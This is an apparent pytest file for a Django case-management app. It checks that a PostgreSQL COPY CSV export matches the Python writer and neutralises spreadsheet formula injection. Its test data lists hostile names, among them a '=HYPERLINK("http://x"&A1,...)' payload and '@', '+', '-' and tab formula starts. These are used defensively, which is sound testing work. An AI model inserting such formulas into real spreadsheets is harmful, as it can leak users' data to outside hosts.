"""On PostgreSQL the cases CSV is written by PostgreSQL itself (COPY, issue 25): the file
must be the one the Python writer makes, byte for byte (BOM, header, separators, quotes,
line ends), and the one spreadsheet rule must hold in it (a name typed by anyone never
reaches the clerk's spreadsheet as a formula: core.spreadsheets)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.utils import translation

from cases.models import Case
from core.spreadsheets import table_bytes
from tests.factories import AuthorizationFactory, DriverFactory, SuspensionCaseFactory
from workspace.exports import cases_table

pytestmark = pytest.mark.django_db

# Names as anyone may type them: each spreadsheet program's formula starts, and what the
# CSV must quote or keep (quotes, separators, line breaks, accents).
HOSTILE_NAMES = [
    '=HYPERLINK("http://x"&A1,"Ver")',
    "+55 27 99999-0000",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabulado",
    "\rRetorno",
    'Aspas "duplas" aqui',
    "Ponto; e vírgula, juntos",
    "Linha\nquebrada\r\nduas vezes",
    "José Conceição D'Ávila",
    "'já com apóstrofo",
]


@pytest.fixture
def hostile_cases():
    cases = []
    for name in HOSTILE_NAMES:
        driver = DriverFactory(name=name)
        cases.append(SuspensionCaseFactory(authorization=AuthorizationFactory(holder=driver)))
    # No applicant, no Termo: empty cells, as the Python writer leaves them.
    cases.append(SuspensionCaseFactory(authorization=None, applicant=None))
    closed = cases[0]
    Case.objects.filter(pk=closed.pk).update(
        closed_at=dt.datetime(2026, 4, 1, 18, 5, tzinfo=dt.UTC)
    )
    Case.objects.exclude(pk=closed.pk).update(closed_at=None)
    return cases


def _both_ways(user) -> tuple[bytes, bytes]:
    by_python = cases_table(user, {"status": "all"})
    python_bytes = table_bytes("csv", headers=by_python.headers, rows=by_python.rows)
    by_copy = cases_table(user, {"status": "all"})
    assert by_copy.csv_writer is not None  # PostgreSQL writes it
    out = io.BytesIO()
    written = by_copy.csv_writer(out, None)
    assert written == len(HOSTILE_NAMES) + 1
    return python_bytes, out.getvalue()


@pytest.mark.parametrize("chunk", [None, 1])  # the rows turned into lines at once, or each
@pytest.mark.parametrize("language", ["pt-br", "en"])
def test_copy_writes_the_bytes_the_python_writer_writes(
    clerk, hostile_cases, language, chunk, monkeypatch
):
    if chunk:
        monkeypatch.setattr("core.spreadsheets.COPY_CHUNK", chunk)
    with translation.override(language):
        python_bytes, copy_bytes = _both_ways(clerk)

    assert copy_bytes == python_bytes


def test_the_file_keeps_the_spreadsheet_rule(clerk, hostile_cases):
    _python_bytes, copy_bytes = _both_ways(clerk)

    assert copy_bytes.startswith(b"\xef\xbb\xbf")
    text = copy_bytes.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert len(rows) == len(HOSTILE_NAMES) + 2  # the header, every case
    names = {row[3] for row in rows[1:]}
    assert names == {
        "'" + name if name[0] in "=+-@\t\r" else name for name in HOSTILE_NAMES
    } | {""}
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
    # Each line ends as the csv module ends it; a line break inside a name stays inside it.
    assert text.count("\r\n") == len(rows) + 1
    closed = next(row for row in rows if row[3].startswith("'=HYPERLINK"))
    assert closed[6] == "01/04/2026 15:05"


def test_the_worker_writes_it_with_its_progress_saved(clerk, hostile_cases, monkeypatch):
    """The worker saves its progress through the connection PostgreSQL writes the rows
    on: a save while the COPY holds it would wait for ever (an alarm fails the test)."""
    import signal

    from core import spreadsheets
    from workspace.exports import export_run
    from workspace.models import ExportJob

    monkeypatch.setattr(spreadsheets, "PROGRESS_EVERY", 1)
    monkeypatch.setattr("workspace.exports.PROGRESS_SECONDS", 0.0)
    job = ExportJob.objects.create(
        owner=clerk, dataset="cases", format="csv", params={"status": "all"}
    )

    def stuck(*_args):
        raise TimeoutError("the export waited on its own connection")

    previous = signal.signal(signal.SIGALRM, stuck)
    signal.alarm(30)
    try:
        export_run(job_id=job.pk, today=dt.date(2026, 6, 1))
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)

    job.refresh_from_db()
    assert job.status == ExportJob.Status.DONE
    assert (job.done, job.total) == (len(HOSTILE_NAMES) + 1, len(HOSTILE_NAMES) + 1)
    python_bytes, _copy_bytes = _both_ways(clerk)
    with job.file.open("rb") as saved:
        assert saved.read() == python_bytes
